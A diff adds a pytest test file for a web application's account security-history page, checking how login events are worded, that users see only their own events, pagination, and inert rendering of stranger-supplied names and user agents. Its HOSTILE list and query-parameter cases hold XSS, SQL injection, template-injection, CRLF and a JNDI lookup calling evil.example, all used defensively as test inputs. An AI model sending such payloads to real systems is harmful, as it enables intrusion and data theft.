@@ -1,0 +1,367 @@
+"""The security history: what was recorded is read back, by its owner and in plain words."""
+
+import json
+from typing import Any
+from urllib.parse import parse_qs, urlsplit
+from uuid import UUID
+
+import pytest
+from webtest import TestResponse
+
+from tests.common.people import Person
+from tests.common.site import Site
+from tests.common.visitor import Visitor
+from tests.common.watching import statements
+from warehouse_mfa.db import new_id
+
+DASH = "\N{EN DASH}"
+HISTORY = "/manage/account/history/"
+LINUX = "Mozilla/5.0 (X11; Linux x86_64; rv:145.0) Gecko/20100101 Firefox/145.0"
+RECORD = (
+    "INSERT INTO events (id, tag, happened_at, subject_id, facts)"
+    " SELECT :id, :tag, happened_at, subject_id, :facts FROM events"
+    " WHERE tag = 'account:registered' ORDER BY id LIMIT 1"
+)
+
+
+@pytest.fixture
+def alice(site: Site, user_with_totp: Person) -> Visitor:
+    """Alice, logged in from an address and a browser of her own."""
+    visitor = site.visitor(address="198.51.100.9", agent=LINUX)
+    visitor.log_in(user_with_totp)
+    return visitor
+
+
+def lines_on(page: TestResponse) -> list[list[str]]:
+    """Return the cells of each line."""
+    return [
+        [" ".join(cell.get_text(" ").split()) for cell in line.select("td")]
+        for line in page.html.select("#account-events tbody tr")
+    ]
+
+
+def sentences_on(page: TestResponse) -> list[str]:
+    return [cell.text for cell in page.html.select("#account-events .history-sentence")]
+
+
+def record(site: Site, tag: str, number: int = 1, **facts: Any) -> None:
+    """Write events of the first account behind the application's back."""
+    for _ in range(number):
+        id = new_id()
+        key = id.hex if site.settings.database_url.get_secret_value()[0] == "s" else id
+        site.change(RECORD, id=key, tag=tag, facts=json.dumps(facts))
+
+
+# What it says
+
+
+def test_a_login_is_told_with_factor_time_place_and_browser(alice: Visitor) -> None:
+    page = alice.get(HISTORY, status=200)
+
+    assert lines_on(page)[0] == [
+        "You logged in with a code of the authenticator app Phone .",
+        "Dec 1, 2026, 12:01:37 PM",
+        "Firefox on Linux (new) 198.51.100.9",
+        "Authenticator app",
+    ]
+    assert page.html.select_one("tbody time")["datetime"] == "2026-12-01T12:01:37+00:00"
+    assert page.headers["Cache-Control"] == "no-store"
+
+
+def test_a_login_with_a_browser_that_is_known_says_nothing_of_it(
+    site: Site, alice: Visitor, user_with_totp: Person
+) -> None:
+    alice.form("/account/logout/", "logout-form").submit(status=303)
+    site.clock.advance(seconds=60)
+    alice.log_in(user_with_totp)
+
+    page = alice.get(HISTORY, status=200)
+
+    assert [line[2] for line in lines_on(page)[:4]] == [
+        "Firefox on Linux 198.51.100.9",
+        "Firefox on Linux 198.51.100.9",
+        "Firefox on Linux 198.51.100.9",
+        "Firefox on Linux (new) 198.51.100.9",
+    ]
+
+
+def test_a_life_is_told_newest_first(site: Site) -> None:
+    person = site.person("bob", totp=True, key=True)
+    visitor = site.visitor()
+    visitor.give_password(person)
+    visitor.give_key(person)
+    visitor.form("/account/logout/", "logout-form").submit(status=303)
+    site.clock.advance(seconds=60)
+    visitor.log_in(person)
+
+    assert sentences_on(visitor.get(HISTORY, status=200)) == [
+        "You logged in with a code of the authenticator app Phone.",
+        "Your password was given, as the first step of a login.",
+        "You logged out.",
+        "You logged in with the security key Key.",
+        "Your password was given, as the first step of a login.",
+        "You added the security key Key.",
+        "You added the authenticator app Phone.",
+        "Your password was given, as the first step of a login.",
+        "Your email address was verified.",
+        "The account bob was registered.",
+    ]
+
+
+def test_what_a_stranger_tries_is_told_with_their_place(
+    site: Site, alice: Visitor, user_with_totp: Person
+) -> None:
+    stranger = site.visitor(address="203.0.113.7", agent="curl/8.14.1")
+    stranger.give_password(user_with_totp, status=422, password="a guess")
+    stranger.give_password(user_with_totp)
+    stranger.give_code(user_with_totp.wrong_code(), status=422)
+
+    page = alice.get(HISTORY, status=200)
+
+    assert [(line[0], line[2], line[3]) for line in lines_on(page)[:3]] == [
+        (
+            "Somebody gave your password, and then a code that was not right.",
+            "Unknown program 203.0.113.7",
+            "Authenticator app",
+        ),
+        (
+            "Your password was given, as the first step of a login.",
+            "Unknown program 203.0.113.7",
+            "none",
+        ),
+        ("Somebody gave a wrong password.", "Unknown program 203.0.113.7", "none"),
+    ]
+    warnings = [
+        "history-warning" in line.get("class", []) for line in page.html.select("tbody tr")[:3]
+    ]
+    assert warnings == [True, False, True]
+
+
+def test_an_attempt_that_was_stopped_is_told_once(
+    site: Site, alice: Visitor, user_with_totp: Person
+) -> None:
+    for status in [422] * 10 + [429] * 3:
+        site.visitor().give_password(user_with_totp, status=status, password="a guess")
+
+    sentences = sentences_on(alice.get(HISTORY, status=200))
+
+    stopped = "We stopped an attempt to log in, after too many wrong passwords."
+    assert sentences[0] == stopped
+    assert sentences.count(stopped) == 1
+    assert sentences.count("Somebody gave a wrong password.") == 10
+
+
+def test_an_event_of_another_release_is_told_by_its_tag(site: Site, alice: Visitor) -> None:
+    record(site, "account:later:<b>", label="${tag}")
+
+    page = alice.get(HISTORY, status=200)
+
+    assert sentences_on(page)[0] == (
+        "Something happened that this page has no words for: account:later:<b>"
+    )
+
+
+def test_a_fact_that_an_older_event_lacks_is_a_dash(site: Site, alice: Visitor) -> None:
+    record(site, "account:totp:enrolled")
+
+    page = alice.get(HISTORY, status=200)
+
+    assert sentences_on(page)[0] == f"You added the authenticator app {DASH}."
+
+
+@pytest.mark.parametrize(
+    ("field", "cell"),
+    [
+        ("address", f"Firefox on Linux (new) {DASH} not known"),
+        ("agent", f"{DASH} not known (new) 198.51.100.9"),
+    ],
+)
+def test_a_personal_field_that_was_erased_is_a_dash_with_an_explanation(
+    site: Site, alice: Visitor, field: str, cell: str
+) -> None:
+    site.change("DELETE FROM event_private WHERE field = :field", field=field)
+
+    page = alice.get(HISTORY, status=200)
+
+    assert lines_on(page)[0][2] == cell
+    assert "A dash stands for what is not known, or was erased" in page
+
+
+# Whose it is
+
+
+def test_nobody_sees_what_happened_to_somebody_else(
+    site: Site, alice: Visitor, mallory: Person
+) -> None:
+    site.visitor().give_password(mallory, status=422, password="a guess")
+    site.visitor().give_password(Person("nobody", clock=site.clock), status=422)
+
+    sentences = sentences_on(alice.get(HISTORY, status=200))
+
+    assert "The account alice was registered." in sentences
+    assert not any("wrong password" in one or "mallory" in one for one in sentences)
+
+
+@pytest.mark.attack("P-101")
+def test_an_event_of_somebody_else_is_a_place_and_nothing_more(
+    site: Site, alice: Visitor, mallory: Person
+) -> None:
+    last = site.value("SELECT id FROM events ORDER BY id DESC LIMIT 1")
+
+    page = alice.get(f"{HISTORY}?before={last}", status=200)
+
+    assert sentences_on(page) == sentences_on(alice.get(HISTORY))
+
+
+def test_a_stranger_is_sent_to_log_in_and_back(visitor: Visitor) -> None:
+    answer = visitor.get(HISTORY, status=303)
+
+    parts = urlsplit(answer.location)
+    assert (parts.path, parse_qs(parts.query)) == ("/account/login/", {"next": [HISTORY]})
+
+
+def test_somebody_who_owes_a_factor_does_not_see_it(
+    visitor: Visitor, user_with_totp: Person
+) -> None:
+    visitor.give_password(user_with_totp)
+
+    visitor.get(HISTORY, status=303)
+
+
+def test_menu_and_overview_lead_to_it(alice: Visitor) -> None:
+    page = alice.get("/manage/account/", status=200)
+
+    history = page.click("See your security history")
+    assert len(page.html.select(f'.side-menu a[href$="{HISTORY}"]')) == 1
+    assert history.html.select_one(".side-menu a[aria-current]").text == "History"
+
+
+# Page by page
+
+
+def test_the_pages_lead_from_the_newest_event_to_the_oldest(site: Site, alice: Visitor) -> None:
+    record(site, "account:logout", 105)
+    total = site.value("SELECT count(*) FROM events")
+
+    pages = [alice.get(HISTORY, status=200)]
+    while pages[-1].html.find("a", string="Older"):
+        pages.append(pages[-1].click("Older"))
+
+    told = [sentence for page in pages for sentence in sentences_on(page)]
+    assert [len(sentences_on(page)) for page in pages] == [50, 50, total - 100]
+    assert told[:105] == ["You logged out."] * 105
+    assert told[-1] == "The account alice was registered."
+    assert not pages[0].html.find("a", string="Newest")
+    assert sentences_on(pages[-1].click("Newest")) == sentences_on(pages[0])
+
+
+def test_a_page_costs_two_statements_however_much_happened(site: Site, alice: Visitor) -> None:
+    record(site, "account:logout", 200)
+
+    with statements(site) as sent:
+        alice.get(HISTORY, status=200)
+
+    selects = [one for one in sent if one.startswith("SELECT")]
+    assert len(selects) == 2, selects
+
+
+def test_before_the_first_event_there_is_nothing(alice: Visitor) -> None:
+    page = alice.get(f"{HISTORY}?before={UUID(int=0)}", status=200)
+
+    assert lines_on(page) == []
+    assert "There is nothing older." in page
+    assert page.click("Newest").html.select("tbody tr")
+
+
+def test_an_account_without_events_says_so(site: Site, alice: Visitor) -> None:
+    site.change("DELETE FROM event_private")
+    site.change("DELETE FROM audit_leaves")
+    site.change("DELETE FROM events")
+
+    page = alice.get(HISTORY, status=200)
+
+    assert lines_on(page) == []
+    assert "Nothing has happened yet." in page
+
+
+@pytest.mark.attack("P-101")
+@pytest.mark.parametrize(
+    "before",
+    [
+        "",
+        "0",
+        "-1",
+        "x",
+        "' OR 1=1--",
+        "%",
+        "_",
+        "\\",
+        "$$",
+        ":x",
+        "9" * 10_000,
+        "\u202e",
+    ],
+)
+def test_a_place_that_is_none_is_not_found(alice: Visitor, before: str) -> None:
+    page = alice.get(HISTORY, {"before": before}, status=404)
+
+    assert "Page not found" in page
+
+
+# What strangers write
+
+
+HOSTILE = [
+    "<script>alert(1)</script>",
+    '"><img src=x onerror=alert(1)>',
+    "' OR 1=1--",
+    "${label} ${credential} %(label)s {{ 7 * 7 }}",
+    "one\u202etwo\u2066three",
+    "\x1b[31mred\r\nGET / HTTP/1.1",
+    "${jndi:ldap://evil.example/x}",
+    "\U0001f511 & &amp;",
+    "x" * 10_000,
+]
+
+
+@pytest.mark.attack("P-069")
+@pytest.mark.parametrize("label", HOSTILE)
+def test_a_name_is_told_as_it_is_kept_apart_and_does_nothing(
+    site: Site, alice: Visitor, label: str
+) -> None:
+    record(site, "account:webauthn:registered", label=label)
+
+    page = alice.get(HISTORY, status=200)
+
+    sentence = page.html.select_one(".history-sentence")
+    told = "\n".join(sentence.select_one("bdi").text.splitlines())
+    assert told == "\n".join(label.splitlines())
+    assert sentence.text.startswith("You added the security key ")
+    assert not page.html.select("img[onerror], script:not([src]), [onmouseover]")
+
+
+@pytest.mark.attack("P-102")
+@pytest.mark.parametrize(
+    "agent", [agent for agent in HOSTILE if agent.isascii() and agent.isprintable()]
+)
+def test_what_a_browser_says_of_itself_is_not_repeated(
+    site: Site, alice: Visitor, user_with_totp: Person, agent: str
+) -> None:
+    site.visitor(agent=f"{agent} Firefox/1").give_password(user_with_totp)
+
+    page = alice.get(HISTORY, status=200)
+
+    expected = "Unknown program" if len(agent) > 512 else "Firefox"
+    assert lines_on(page)[0][2] == f"{expected} 192.0.2.1"
+    assert agent not in page.html.select_one("#account-events").text
+
+
+def test_a_browser_that_sends_nul_is_told(
+    site: Site, alice: Visitor, user_with_totp: Person
+) -> None:
+    site.visitor(agent="\0Firefox/1 (Linux)\0").give_password(user_with_totp)
+
+    page = alice.get(HISTORY, status=200)
+
+    assert lines_on(page)[0][2] == "Firefox on Linux 192.0.2.1"
+    assert "\0" not in page.text
